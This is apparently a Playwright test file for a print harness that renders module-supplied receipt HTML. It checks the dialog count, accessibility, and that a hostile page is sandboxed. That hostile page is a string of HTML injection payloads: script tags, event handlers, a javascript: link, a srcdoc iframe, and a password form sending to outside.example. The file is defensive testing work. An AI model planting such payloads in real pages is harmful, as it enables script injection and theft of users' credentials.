import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import axe from "axe-core";
import type { Browser, Page } from "playwright-core";
import { launchBrowser } from "../../src/index.ts";
import { type PrintHarness, startPrintHarness } from "./print-harness.ts";

/** What a hostile module would try; each names what it would do. */
const HOSTILE = `<meta http-equiv="refresh" content="0;url=http://outside.example/refreshed">
<base href="http://outside.example/"><link rel="stylesheet" href="http://outside.example/sheet.css"><link rel="prefetch" href="http://outside.example/prefetched">
<style>@import url(http://outside.example/imported.css);h1{background:url(http://outside.example/drawn.png)}</style>
<script>window.ran = "script"</script><script src="http://outside.example/script.js"></script>
<img src="http://outside.example/picture.png" onerror="window.ran = 'onerror'"><svg onload="window.ran = 'onload'"><script>window.ran = "svg"</script></svg>
<iframe src="http://outside.example/framed" srcdoc="<script>top.ran = 'srcdoc'</script>"></iframe><object data="http://outside.example/object"></object><embed src="http://outside.example/embed">
<form action="http://outside.example/sent"><input name="password" type="password"><button id="send">Sign in</button></form>
<a id="run" href="javascript:window.ran = 'link'">Run</a><details open ontoggle="window.ran = 'toggle'"><summary>More</summary></details>
<template><img src="http://outside.example/template.png"></template></main></script><h1>Receipt 8</h1><p>Paid in full.</p><!--<script>`;

let at: PrintHarness;
let browser: Browser;
before(async () => {
  [at, browser] = await Promise.all([startPrintHarness(), launchBrowser()]);
});
after(async () => {
  await browser?.close();
  await at?.close();
});

/** Opens a page, counts its calls of the dialog, and notes every request that leaves. */
async function open(html: string): Promise<{ page: Page; asked: string[]; printed: () => Promise<number> }> {
  const { url } = await at.print({ title: "Receipt", locale: "en", html });
  const context = await browser.newContext();
  const asked: string[] = [];
  await context.route("http://outside.example/**", (route) => {
    asked.push(route.request().url());
    return route.fulfill({ body: "window.ran = 'outside'" });
  });
  await context.addInitScript(() => {
    const counted = window as unknown as { printed: number };
    counted.printed = 0;
    window.print = () => void counted.printed++;
  });
  const page = await context.newPage();
  await page.goto(url);
  return { page, asked, printed: () => page.evaluate(() => (window as unknown as { printed: number }).printed) };
}

test("shows what the module wrote under its title, opens the dialog once, and again for a click", async () => {
  const { page, printed } = await open("<style>h1{color:rgb(0,128,0)}</style><h1>Receipt 7</h1><p>Paid in full.</p>");
  assert.equal(await page.title(), "Receipt");
  assert.equal(await page.locator("h1").evaluate((heading) => getComputedStyle(heading).color), "rgb(0, 128, 0)");
  assert.equal(await printed(), 1);
  await page.getByRole("button", { name: "Print" }).click();
  assert.equal(await printed(), 2);
  await page.evaluate(axe.source);
  const found = await page.evaluate(async () => (await (window as unknown as { axe: typeof axe }).axe.run()).violations.map(({ id }) => id));
  assert.deepEqual(found, []);
  await page.emulateMedia({ media: "print" });
  assert.equal(await page.getByRole("button", { name: "Print" }).isVisible(), false, "our own words are not printed");
  assert.equal(await page.getByText("Paid in full.").isVisible(), true);
  await page.context().close();
});

test("nothing of a hostile page runs, loads, sends or navigates; its text is shown", async () => {
  const { page, asked, printed } = await open(HOSTILE);
  const url = page.url();
  await page.getByText("Run").click();
  await page.waitForTimeout(500);
  assert.equal(page.url(), url);
  assert.equal(await page.evaluate(() => (window as unknown as { ran?: string }).ran), undefined);
  assert.deepEqual(asked, []);
  assert.equal(await page.locator("form, iframe, object, embed, meta[http-equiv], main base").count(), 0);
  assert.equal(await page.getByText("Paid in full.").isVisible(), true);
  assert.equal(await printed(), 1);
  assert.equal(await page.evaluate(() => window.origin), "null", "an opaque origin");
  await page.context().close();
});
